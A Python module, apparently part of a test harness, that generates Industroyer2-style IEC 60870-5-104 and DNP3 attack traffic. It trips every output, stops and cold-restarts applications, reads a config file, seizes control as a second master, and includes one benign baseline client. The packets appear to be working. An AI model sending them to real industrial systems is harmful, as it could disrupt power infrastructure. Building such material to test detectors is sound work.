"""IEC 60870-5-104 and DNP3: Industroyer2's commands, outstations stopped, restarted and asked for their files."""

from __future__ import annotations

import struct
import time
from typing import TYPE_CHECKING, Final

from proving.clients.talk import Talk

if TYPE_CHECKING:
    from collections.abc import Callable

_IEC: Final = 2404
_DNP: Final = 20000
_START, _STOP, _TEST = (bytes.fromhex(t) for t in ("680407000000", "680413000000", "680443000000"))
_POLYNOMIAL: Final = 0xA6BC


def _asdu(number: int, kind: int, cause: int, ioa: int, element: bytes) -> bytes:
    body = struct.pack("<BBHH", kind, 1, cause, 1) + ioa.to_bytes(3, "little") + element
    return struct.pack("<BBHH", 0x68, len(body) + 4, number << 1, 0) + body


def _commands(to: str, asdus: list[tuple[int, int, int, bytes]], pause_s: float = 0.2) -> None:
    with Talk(to, _IEC) as talk:
        talk.say(_START)
        for number, (kind, cause, ioa, element) in enumerate(asdus):
            talk.say(_asdu(number, kind, cause, ioa, element), pause_s)


def industroyer2(to: str) -> None:
    """TESTFR, STARTDT, an interrogation, then single and double commands over a range of points."""
    with Talk(to, _IEC) as talk:
        talk.say(_TEST)
        talk.say(_START)
        talk.say(_asdu(0, 100, 6, 0, b"\x14"), 0.5)
        for number in range(10):
            kind = 46 if number % 2 else 45
            talk.say(_asdu(number + 1, kind, 6, 100 + number, b"\x02" if kind == 46 else b"\x00"), 0.3)


def start_repeated(to: str) -> None:
    """STARTDT over and over."""
    with Talk(to, _IEC, 0.1) as talk:
        for _ in range(120):
            talk.say(_START, 0.03)


def orderly_master(to: str) -> None:
    """What a control station does that starts anew: no attack."""
    with Talk(to, _IEC) as talk:
        talk.say(_TEST)
        talk.say(_START)
        talk.say(_asdu(0, 100, 6, 0, b"\x14"), 1.0)
        talk.say(bytes.fromhex("680401000200"), 1.0)
        talk.say(_STOP, 0.5)


def parameter_changed(to: str) -> None:
    """Parameters of measured values: thresholds written and activated."""
    one = struct.pack("<hB", 32000, 4)
    _commands(to, [(111, 6, 200, one), (111, 6, 201, one), (113, 6, 200, b"\x01")], 1.0)


def selected_only(to: str) -> None:
    """Points selected over and over, never operated: nobody else can."""
    _commands(to, [(45, 6, 0x64 + at % 4, b"\x81") for at in range(40)], 0.1)


def _crc(octets: bytes) -> bytes:
    crc = 0
    for octet in octets:
        crc ^= octet
        for _ in range(8):
            crc = crc >> 1 ^ _POLYNOMIAL if crc & 1 else crc >> 1
    return (~crc & 0xFFFF).to_bytes(2, "little")


def _fragment(function: int, objects: bytes = b"", number: int = 0) -> bytes:
    user = bytes((0xC0 | number & 0x3F, 0xC0 | number & 0x0F, function)) + objects
    head = struct.pack("<BBBBHH", 5, 0x64, len(user) + 5, 0xC4, 10, 1)
    blocks = (user[at : at + 16] for at in range(0, len(user), 16))
    return head + _crc(head) + b"".join(block + _crc(block) for block in blocks)


def _fragments(to: str, fragments: list[tuple[int, bytes]], pause_s: float = 0.3) -> None:
    with Talk(to, _DNP) as talk:
        for number, (function, objects) in enumerate(fragments):
            talk.say(_fragment(function, objects, number), pause_s)


def outputs_tripped(to: str) -> None:
    """DIRECT_OPERATE of a trip at each output."""
    crob = struct.pack("<BBIIB", 0x81, 1, 100, 100, 0)
    _fragments(to, [(5, bytes((12, 1, 0x17, 1, at)) + crob) for at in range(12)], 0.1)


def application_stopped(to: str) -> None:
    """STOP_APPL of everything, then INITIALIZE_APPL."""
    name = bytes((90, 1, 0x5B, 1)) + struct.pack("<H", 4) + b"main"
    _fragments(to, [(18, name), (16, name)], 1.0)


def restarted_again(to: str) -> None:
    """COLD_RESTART over and over."""
    for _ in range(4):
        _fragments(to, [(13, b"")], 2.0)


def files_asked(to: str) -> None:
    """A file opened, read, closed."""
    name = b"/config.xml"
    opened = struct.pack("<HHIIHIIHHH", 26, len(name), 0, 0, 0, 0, 0, 1, 1024, 1)[:26] + name
    asked = bytes((70, 3, 0x5B, 1)) + struct.pack("<H", len(opened)) + opened
    read = bytes((70, 5, 0x5B, 1)) + struct.pack("<HII", 8, 1, 0)
    close = bytes((70, 4, 0x5B, 1)) + struct.pack("<HIIHHB", 13, 1, 0, 0, 1, 0)
    _fragments(to, [(25, asked), (1, read), (26, close)], 0.5)


def iin_written(to: str) -> None:
    """Restart bit cleared, classes assigned anew, reports switched off: a second master that takes over."""
    off = bytes.fromhex("3c02063c03063c0406")
    _fragments(
        to, [(2, bytes.fromhex("500100070700")), (22, bytes.fromhex("3c02060100 06")), (21, off), (1, off)]
    )
    time.sleep(1.0)


CLIENTS: Final[dict[str, Callable[[str], None]]] = {
    "industroyer2": industroyer2,
    "iec-start-repeated": start_repeated,
    "iec-orderly-master": orderly_master,
    "iec-parameter-changed": parameter_changed,
    "iec-selected-only": selected_only,
    "dn-outputs-tripped": outputs_tripped,
    "dn-application-stopped": application_stopped,
    "dn-restarted-again": restarted_again,
    "dn-files-asked": files_asked,
    "dn-second-master": iin_written,
}
